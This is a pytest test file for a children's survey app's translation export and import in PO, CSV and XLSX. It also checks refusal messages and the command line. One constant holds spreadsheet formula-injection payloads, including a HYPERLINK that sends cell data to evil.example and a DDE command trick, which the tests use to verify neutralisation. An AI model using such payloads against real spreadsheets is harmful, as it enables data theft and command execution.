"""A questionnaire's words for a translator and back (questionnaire/exchange.py): PO, CSV and XLSX
exports that import back unchanged, refusals that name the line or row, formula cells neutralised, the
command line, and the shipped Welsh and Arabic translations complete and current."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from babel.messages.pofile import read_po
from sqlalchemy import select

from survey_app.extensions import db
from survey_app.models import AuditEvent
from survey_app.questionnaire import exchange, translations
from survey_app.questionnaire.loader import load_file
from survey_app.questionnaire.strings import sources

ROOT = Path(__file__).resolve().parents[1]
YOUNGER = ROOT / "questionnaires" / "younger-children.yaml"
SHIPPED = {(key, language): ROOT / "questionnaires" / "translations" / f"{key}.{language}.po"
           for key in ("younger-children", "priorities-2018") for language in ("cy", "ar")}
ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def younger():
    return load_file(YOUNGER)


def shipped(key: str = "younger-children", language: str = "cy") -> translations.ParsedTranslation:
    path = SHIPPED[key, language]
    return translations.parse(path.read_text(encoding="utf-8"), path.name)


def entries(text: str) -> dict[str, tuple[str, str]]:
    return {context: (entry.english, entry.translation)
            for context, entry in translations.parse(text, "back.po").entries.items()}


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def to_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def refusal(data: bytes, name: str, language: str = "cy") -> list[str]:
    with pytest.raises(exchange.ExchangeRefused) as refused:
        exchange.import_file(younger(), language, data, name)
    return refused.value.problems


# -- the shipped translations -------------------------------------------------------------------------------

@pytest.mark.parametrize(("key", "language"), sorted(SHIPPED))
def test_each_shipped_translation_has_every_string_of_its_questionnaire_translated_from_its_current_english(
        key, language):
    questionnaire = load_file(ROOT / "questionnaires" / f"{key}.yaml")
    parsed = shipped(key, language)
    status = translations.status(questionnaire, parsed)
    assert [source.context for source in status.missing] == []
    assert [source.context for source, _entry in status.stale] == []
    assert status.unused == ()
    assert (parsed.questionnaire, parsed.language) == (key, language)


@pytest.mark.parametrize(("key", "language"), sorted(SHIPPED))
def test_each_shipped_translation_says_it_needs_a_fluent_speakers_check(key, language):
    text = SHIPPED[key, language].read_text(encoding="utf-8")
    assert "# Needs checking by a fluent speaker before use with children." in text.split('msgid ""')[0]
    assert shipped(key, language).headers["X-Checked-By"] == ""


def test_no_shipped_translation_is_the_english_copied():
    for key, language in SHIPPED:
        copied = [context for context, entry in shipped(key, language).entries.items()
                  if entry.translation == entry.english and not any(ch.isdigit() for ch in entry.english)]
        assert copied == [], (key, language)


# -- round trips ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", exchange.FORMATS)
def test_a_complete_translation_exported_in_any_format_imports_back_unchanged(fmt):
    parsed = shipped("younger-children", "ar")
    data = exchange.export(younger(), "ar", parsed, fmt)
    back = exchange.import_file(younger(), "ar", data, f"from-translator.{fmt}")
    assert entries(back) == {context: (entry.english, entry.translation) for context, entry in parsed.entries.items()}
    assert translations.status(younger(), translations.parse(back, "back.po")).complete


def test_po_to_csv_to_po_keeps_every_word():
    parsed = shipped("younger-children", "cy")
    po = exchange.export(younger(), "cy", parsed, "po")
    stored = exchange.import_file(younger(), "cy", po, "a.po")
    again = exchange.import_file(younger(), "cy", exchange.export(younger(), "cy", translations.parse(stored, "s"),
                                                                  "csv"), "b.csv")
    assert again == stored


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_arabic():
    data = exchange.export(younger(), "ar", shipped("younger-children", "ar"), "csv")
    assert data.startswith("\ufeff".encode())
    header, title = csv_rows(data)[:2]
    assert header == ["context", "English", "translation", "note"]
    assert title[:3] == ["title", "Your life, your say", "حياتك، رأيك"]


def test_the_workbook_has_the_four_columns_and_reads_arabic_right_to_left():
    data = exchange.export(younger(), "ar", shipped("younger-children", "ar"), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == ["context", "English", "translation", "note"]
    assert sheet["C2"].value == "حياتك، رأيك" and sheet["C2"].alignment.readingOrder == 2
    assert sheet.max_row == len(sources(younger())) + 1


def test_a_translation_can_be_started_from_nothing_and_what_is_left_blank_is_missing():
    rows = csv_rows(exchange.export(younger(), "cy", None, "csv"))
    assert all(row[2] == "" for row in rows[1:])
    rows[1][2] = "Dy fywyd, dy lais"
    back = exchange.import_file(younger(), "cy", to_csv(rows), "start.csv")
    status = translations.status(younger(), translations.parse(back, "b"))
    assert "title" not in {source.context for source in status.missing}
    assert len(status.missing) == len(sources(younger())) - 1


def _stale_translation() -> translations.ParsedTranslation:
    text = SHIPPED["younger-children", "cy"].read_text(encoding="utf-8").replace(
        'msgid "How do you feel about school?"', 'msgid "How do you feel about your school?"')
    return translations.parse(text, "stale.po")


def test_a_stale_string_goes_to_a_po_editor_as_fuzzy_with_its_old_english_and_does_not_come_back_as_current():
    po = exchange.export(younger(), "cy", _stale_translation(), "po")
    message = next(m for m in read_po(io.BytesIO(po)) if m.context == "question.feel_about_school.text")
    assert message.fuzzy
    lines = po.decode().splitlines()
    at = lines.index('msgctxt "question.feel_about_school.text"')
    assert lines[at - 1] == '#| msgid "How do you feel about your school?"'
    assert message.id == "How do you feel about school?" and message.string == "Sut wyt ti'n teimlo am yr ysgol?"
    back = translations.parse(exchange.import_file(younger(), "cy", po, "same.po"), "b")
    assert [source.context for source in translations.status(younger(), back).missing] == \
        ["question.feel_about_school.text"]


def test_a_stale_string_goes_to_a_spreadsheet_blank_with_the_old_words_in_the_note():
    rows = {row[0]: row for row in csv_rows(exchange.export(younger(), "cy", _stale_translation(), "csv"))}
    context, english, translation, note = rows["question.feel_about_school.text"]
    assert (english, translation) == ("How do you feel about school?", "")
    assert "How do you feel about your school?" in note and "Sut wyt ti'n teimlo am yr ysgol?" in note


def test_a_spreadsheet_row_whose_english_was_changed_is_kept_stale():
    rows = csv_rows(exchange.export(younger(), "cy", shipped(), "csv"))
    rows[1][1] = "Your life, your choice"
    back = translations.parse(exchange.import_file(younger(), "cy", to_csv(rows), "x.csv"), "b")
    assert [source.context for source, _entry in translations.status(younger(), back).stale] == ["title"]


# -- formulas -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_translation_that_looks_like_a_formula_is_text_in_the_spreadsheet_and_comes_back_as_written(fmt):
    texts = {source.context: ATTACKS[number % len(ATTACKS)] for number, source in enumerate(sources(younger()))}
    parsed = translations.parse(translations.po_text(younger(), "cy", texts), "attack.po")
    data = exchange.export(younger(), "cy", parsed, fmt)
    if fmt == "csv":
        cells = [row[2] for row in csv_rows(data)[1:]]
        formulas = 0
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [row[2].value for row in sheet.iter_rows(min_row=2)]
        formulas = sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert formulas == 0
    assert all(cell.startswith("'") for cell in cells)
    back = exchange.import_file(younger(), "cy", data, f"attack.{fmt}")
    assert {context: translation for context, (_english, translation) in entries(back).items()} == texts


# -- refusals -----------------------------------------------------------------------------------------------

def test_a_csv_row_with_a_context_the_questionnaire_does_not_have_is_refused_naming_its_line():
    rows = csv_rows(exchange.export(younger(), "cy", shipped(), "csv"))
    rows[3][0] = "question.no_such_question.text"
    problems = refusal(to_csv(rows), "t.csv")
    # the intro's English and its translation each hold two line breaks: its row is lines 3 to 7
    assert problems == ["Line 8: 'question.no_such_question.text' is not a string of this questionnaire (keep "
                        "the first column as the export made it)."]


def test_a_workbook_row_with_a_context_the_questionnaire_does_not_have_is_refused_naming_its_row():
    book = openpyxl.load_workbook(io.BytesIO(exchange.export(younger(), "cy", shipped(), "xlsx")))
    book.worksheets[0]["A7"] = "section.nowhere.title"
    out = io.BytesIO()
    book.save(out)
    assert refusal(out.getvalue(), "t.xlsx")[0].startswith("Row 7: 'section.nowhere.title' is not a string")


def test_wrong_columns_are_refused_naming_the_first_line():
    problems = refusal(to_csv([["id", "text", "welsh"], ["title", "Your life, your say", "Dy fywyd"]]), "t.csv")
    assert problems[0].startswith("Line 1: the first row must name the columns context, English, translation, note")


def test_a_string_given_twice_and_a_cell_outside_the_columns_are_refused_each_with_its_line():
    rows = [["context", "English", "translation", "note"], ["title", "Your life, your say", "Dy fywyd", ""],
            ["title", "Your life, your say", "Dy fywyd eto", ""], ["section.home.title", "Where you live", "Cartref",
                                                                      "", "extra"]]
    assert refusal(to_csv(rows), "t.csv") == [
        "Line 3: 'title' is given twice.",
        "Line 4: there is something in column 5, which has no name in the first row."]


def test_a_file_not_saved_as_utf8_is_refused_naming_the_line():
    data = "context,English,translation\ntitle,Your life,Dy fywyd\nintro,We want,Rydyn ni’n\n".encode("cp1252")
    assert refusal(data, "t.csv")[0].startswith("Line 3: the file is not saved as UTF-8")


def test_a_file_that_is_too_big_is_refused():
    assert "larger than 1,000 KB" in refusal(b"x" * (exchange.MAX_BYTES + 1), "big.csv")[0]


def test_a_file_that_is_neither_po_csv_nor_xlsx_is_refused():
    assert refusal(b"hello", "notes.txt")[0].startswith("Choose a .po, .csv or .xlsx file")
    assert refusal(b"not a zip", "t.xlsx")[0].startswith("The file is not an Excel workbook")


def test_a_po_file_for_another_questionnaire_or_language_is_refused():
    po = SHIPPED["priorities-2018", "ar"].read_bytes()
    assert refusal(po, "wrong.po", "cy")[:2] == [
        "The file is for the questionnaire 'priorities-2018', not 'younger-children' (its header's X-Questionnaire).",
        "The file is in 'ar', not 'cy' (its header's Language)."]


def test_a_po_message_the_questionnaire_does_not_have_is_refused_naming_its_line():
    text = SHIPPED["younger-children", "cy"].read_text(encoding="utf-8").replace(
        'msgctxt "section.school.title"', 'msgctxt "section.college.title"')
    line = text.splitlines().index('msgctxt "section.college.title"') + 1
    assert refusal(text.encode(), "t.po") == [
        f"Line {line + 1}: 'section.college.title' is not a string of this questionnaire (its msgctxt must be one "
        "the export gave)."]


def test_a_broken_po_file_is_refused_naming_its_line():
    text = SHIPPED["younger-children", "cy"].read_text(encoding="utf-8")
    bad_line = len(text.splitlines()) + 1
    (problem,) = refusal((text + "this is not po\n").encode(), "t.po")
    line, message = problem.split(": ", 1)
    assert line == f"Line {bad_line}"
    assert message.startswith("not a readable PO file")


# -- the command line -----------------------------------------------------------------------------------------

@pytest.mark.usefixtures("shipped_questionnaires_only", "no_translations")
@pytest.mark.parametrize("fmt", exchange.FORMATS)
def test_the_command_line_exports_a_file_and_imports_it_back_translated(app, runner, tmp_path, fmt):
    out = tmp_path / f"younger.{fmt}"
    result = runner.invoke(args=["questionnaires", "translations", "export", "younger-children", "cy",
                                 "--format", fmt, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert f"{len(sources(younger()))} strings" in result.output
    texts = {source.context: f"CY {source.english}" for source in sources(younger())}
    translated = exchange.export(younger(), "cy", translations.parse(translations.po_text(younger(), "cy", texts),
                                                                      "x.po"), fmt)
    assert exchange.import_file(younger(), "cy", out.read_bytes(), out.name) != \
        exchange.import_file(younger(), "cy", translated, out.name)
    out.write_bytes(translated)
    result = runner.invoke(args=["questionnaires", "translations", "import", "younger-children", "cy", str(out)])
    assert result.exit_code == 0, result.output
    assert "imported (complete); it needs a check by a fluent speaker" in result.output
    with app.app_context():
        row = translations.row_for("younger-children", "cy")
        assert translations.parsed_row(row).entries["title"].translation == "CY Your life, your say"
        assert row.checked_by == ""
        assert db.session.scalars(select(AuditEvent.action).order_by(AuditEvent.id)).all() == [
            "questionnaire translation exported", "questionnaire translation imported"]


@pytest.mark.usefixtures("shipped_questionnaires_only", "no_translations")
def test_the_command_line_refuses_a_bad_file_naming_the_line_and_keeps_nothing(app, runner, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_bytes(to_csv([["context", "English", "translation"], ["title", "Your life, your say", "Dy fywyd"],
                            ["nonsense", "x", "y"]]))
    result = runner.invoke(args=["questionnaires", "translations", "import", "younger-children", "cy", str(bad)])
    assert result.exit_code == 1
    assert "bad.csv: Line 3: 'nonsense' is not a string of this questionnaire" in result.output
    assert "Nothing was imported." in result.output
    with app.app_context():
        assert translations.row_for("younger-children", "cy") is None


@pytest.mark.usefixtures("shipped_questionnaires_only")
def test_the_command_line_refuses_an_unknown_questionnaire_or_language(runner, tmp_path):
    out = str(tmp_path / "x.po")
    assert "no questionnaire 'nope'" in runner.invoke(
        args=["questionnaires", "translations", "export", "nope", "cy", "-o", out]).output
    assert "LANG must be one of cy, ar" in runner.invoke(
        args=["questionnaires", "translations", "export", "younger-children", "fr", "-o", out]).output
